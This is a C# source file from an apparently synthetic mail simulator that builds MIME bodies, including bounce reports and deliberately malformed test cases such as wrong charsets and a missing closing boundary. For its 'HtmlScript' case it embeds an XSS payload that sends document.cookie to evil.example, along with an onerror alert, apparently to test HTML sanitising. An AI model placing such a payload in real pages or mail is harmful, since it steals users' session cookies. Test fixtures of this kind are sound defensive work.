using System.Globalization;

namespace TradeCrm.Simulator;

/// <summary>The content of a mail: its parts, each with its headers. Latin-1 text throughout, one letter for each byte.</summary>
internal sealed class MailBody(Letter letter, string name)
{
    private readonly bool withQuote = name != MailCase.EmbeddedMessage;
    private readonly RandomStream stream = letter.Stream;

    /// <summary>Headers of the content, an empty line, and the content.</summary>
    public string Entity()
    {
        if (letter.Type == "bounce")
            return Report();
        List<string> parts = [.. MailAttachments.Of(letter, name).Select(attachment => attachment.Entity)];
        if (name == MailCase.EmbeddedMessage)
            parts.Add($"Content-Type: message/rfc822\r\nContent-Disposition: attachment; filename=\"forwarded message.eml\"\r\n\r\n{MailMessage.Of(letter.Parent!, "")}");
        return parts.Count == 0 ? Written() : Multipart("mixed", [Written(), .. parts]);
    }

    // The text, and by most programs the same as HTML.
    private string Written()
    {
        var hasHtml = letter.Program.HasHtml || name is MailCase.HtmlScript or MailCase.NoClosingBoundary;
        var plain = Text("plain", MailText.Of(letter, withQuote));
        if (!hasHtml)
            return plain;
        var script = name == MailCase.HtmlScript ? "<script>document.location='https://evil.example/?c='+document.cookie</script><img src=x onerror=\"alert(1)\">" : "";
        return Multipart("alternative", [plain, Text("html", MailText.Html(letter, withQuote, script))]);
    }

    private string Text(string subtype, string text)
    {
        var program = letter.Program;
        var charset = name == MailCase.WrongCharset ? "gb18030" : TransferEncoding.CanHold(program.Charset, text) ? program.Charset : "utf-8";
        var declared = name == MailCase.WrongCharset ? "us-ascii" : charset == "utf-8" && TransferEncoding.IsAscii(text) && !program.HasHtml ? "us-ascii" : charset;
        var encoding = name == MailCase.WrongCharset ? "8bit" : program.Encoding != "base64" && TransferEncoding.IsAscii(text) ? "7bit" : program.Encoding;
        var bytes = TransferEncoding.Of(charset).GetBytes(text.Replace("{charset}", declared, StringComparison.Ordinal));
        return $"Content-Type: text/{subtype}; charset={Quoted(declared)}\r\nContent-Transfer-Encoding: {encoding}\r\n\r\n" + encoding switch
        {
            "base64" => TransferEncoding.Base64(bytes),
            "quoted-printable" => TransferEncoding.QuotedPrintable(bytes),
            _ => TransferEncoding.Raw(bytes),
        };
    }

    private string Quoted(string charset) => letter.Program.Encoding == "quoted-printable" ? $"\"{charset}\"" : charset;

    private string Report()
    {
        var bounce = letter.Activity!.Bounce!;
        var status = $"Content-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; mx.haina-trading.example\r\nArrival-Date: {MailDate.Header(letter)}\r\n\r\n"
            + $"Final-Recipient: rfc822; {bounce.Address}\r\nAction: failed\r\nStatus: {bounce.Status}\r\nDiagnostic-Code: smtp; {bounce.Diagnostic}\r\n";
        var original = letter.Parent is { } parent ? $"Content-Type: message/rfc822\r\n\r\n{MailMessage.Of(parent, "")}" : "Content-Type: text/rfc822-headers\r\n\r\n";
        return Multipart("report; report-type=delivery-status", [Text("plain", MailText.Of(letter, false)), status, original]);
    }

    private string Multipart(string subtype, IReadOnlyList<string> parts)
    {
        var boundary = Boundary();
        var content = string.Concat(parts.Select(part => $"--{boundary}\r\n{part}{(part.EndsWith("\r\n", StringComparison.Ordinal) ? "" : "\r\n")}"));
        return $"Content-Type: multipart/{subtype};\r\n boundary=\"{boundary}\"\r\n\r\nThis is a multi-part message in MIME format.\r\n{content}"
            + (name == MailCase.NoClosingBoundary ? "" : $"--{boundary}--\r\n");
    }

    private string Boundary() => letter.Program.Quote switch
    {
        QuoteStyle.Original or QuoteStyle.German => string.Create(CultureInfo.InvariantCulture, $"----=_NextPart_000_{stream.Next(10_000):0000}_01D{stream.Next(99_999):00000}.{stream.Next(99_999_999):00000000}"),
        QuoteStyle.Chinese => $"----=_001_NextPart{stream.Next(1_000_000_000)}_=----",
        _ => $"=_{stream.Token(24)}",
    };
}
